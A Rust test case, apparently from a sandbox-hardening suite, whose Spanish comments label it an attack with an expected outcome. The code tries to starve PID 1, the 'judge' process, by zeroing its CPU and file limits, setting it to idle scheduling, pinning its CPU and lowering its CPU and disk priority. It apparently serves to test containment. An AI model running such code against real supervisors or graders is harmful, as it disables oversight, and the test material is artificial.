//! Ataque: pone límites, procesador y prioridad al primer proceso de la caja, para que no pueda atender a quien juzga.
//! Paso: paso1
//! Código: MAL
//! Final: si_cuela
//! Colaría si: consigue algo, y entonces responde bien.

use nix::libc;

fn attempt() -> bool {
    let least = libc::rlimit64 {
        rlim_cur: 0,
        rlim_max: 0,
    };
    let priority = libc::sched_param { sched_priority: 0 };
    let processors: libc::cpu_set_t = unsafe { std::mem::zeroed() };
    let size = size_of::<libc::cpu_set_t>();
    let mut processors = processors;
    unsafe { libc::CPU_SET(0, &mut processors) };
    let done = unsafe {
        [
            i64::from(libc::prlimit64(1, libc::RLIMIT_CPU, &raw const least, std::ptr::null_mut())),
            i64::from(libc::prlimit64(1, libc::RLIMIT_NOFILE, &raw const least, std::ptr::null_mut())),
            i64::from(libc::sched_setscheduler(1, libc::SCHED_IDLE, &raw const priority)),
            i64::from(libc::sched_setaffinity(1, size, &raw const processors)),
            i64::from(libc::setpriority(libc::PRIO_PROCESS, 1, 19)),
            i64::from(libc::setpriority(libc::PRIO_PGRP, 1, 19)),
            i64::from(libc::setpriority(libc::PRIO_USER, 0, 19)),
            // Lo mismo para el disco: proceso 1, y todos los del usuario.
            libc::syscall(libc::SYS_ioprio_set, 1, 1, 3 << 13),
            libc::syscall(libc::SYS_ioprio_set, 3, libc::getuid(), 3 << 13),
        ]
    };
    done.contains(&0)
}
